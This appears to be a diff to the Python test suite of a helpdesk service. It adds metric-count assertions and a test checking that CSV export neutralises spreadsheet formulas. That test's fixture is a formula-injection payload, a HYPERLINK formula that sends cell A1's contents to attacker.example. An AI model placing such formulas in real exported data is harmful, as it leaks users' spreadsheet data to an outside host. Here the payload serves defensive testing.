@@ -229,6 +229,19 @@ async def test_export_gives_every_read_model_as_csv(live: Live) -> None:
     assert missing.status_code == 404
 
 
+async def test_exported_cells_a_spreadsheet_would_run_are_neutralised(live: Live) -> None:
+    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Ticket VPN down")'
+    async with live.client() as client:
+        response = await client.post("/v1/qa/evaluations", json={
+            "agent_id": "b1", "evaluator": "@lead", "knowledge": 3, "attitude": 3,
+            "process": 3, "comment": formula, "evaluated_at": "2026-11-02T18:00:00Z"})
+        assert response.status_code == 201, response.text
+        exported = await client.get("/v1/export/qa_evaluations")
+    rows = [r for r in csv.DictReader(io.StringIO(exported.text)) if r["agent_id"] == "b1"]
+    assert [(r["comment"], r["evaluator"]) for r in rows] == [("'" + formula, "'@lead")]
+    assert all(r["knowledge"] == "3" for r in rows)
+
+
 async def exposition(live: Live) -> str:
     async with live.runtime.sessions() as session:
         await live.runtime.state["counters"].refresh(session)
@@ -260,6 +273,13 @@ async def test_the_exposition_passes_promtool_and_counts_the_day(live: Live) -> 
     assert value("tierline_resolution_seconds_bucket", priority="P3", le="+Inf") == 6
     assert value("tierline_tickets_resolved_total", priority="P2") == 1
     assert value("tierline_tickets_reopened_total", priority="P3") == 1
+    # Resolutions only grow: T2 resolved, reopened and resolved again counts twice
+    # (T1 T2 T2 T4 T5 T6 T11), so the reopen never reads as a counter reset.
+    assert value("tierline_tickets_resolved_total", priority="P3") == 7
+    # Nine tickets need an agent (all but the deflected T7 and T8); T10 was never assigned.
+    assert value("tierline_tickets_created_total") == 11
+    assert value("tierline_tickets_to_route_total") == 9
+    assert value("tierline_tickets_assigned_total") == 8
     assert (value("tierline_tickets_deflected_total", channel="chat"),
             value("tierline_tickets_deflected_total", channel="portal")) == (1, 1)
     assert [value("tierline_csat_responses_total", score=str(s)) for s in range(1, 6)] == [
@@ -277,7 +297,8 @@ async def test_labels_are_bounded_and_agents_only_when_enabled(live: Live) -> No
 
     text = await exposition(live)
     bounded = {"priority", "category", "channel", "clock", "kind", "trigger", "status", "score",
-               "group", "le", "consumer", "topic", "type", "outcome", "method", "route"}
+               "group", "le", "consumer", "topic", "type", "outcome", "method", "route",
+               "service"}
     for family in text_string_to_metric_families(text):
         for sample in family.samples:
             assert set(sample.labels) <= bounded, (family.name, sample.labels)
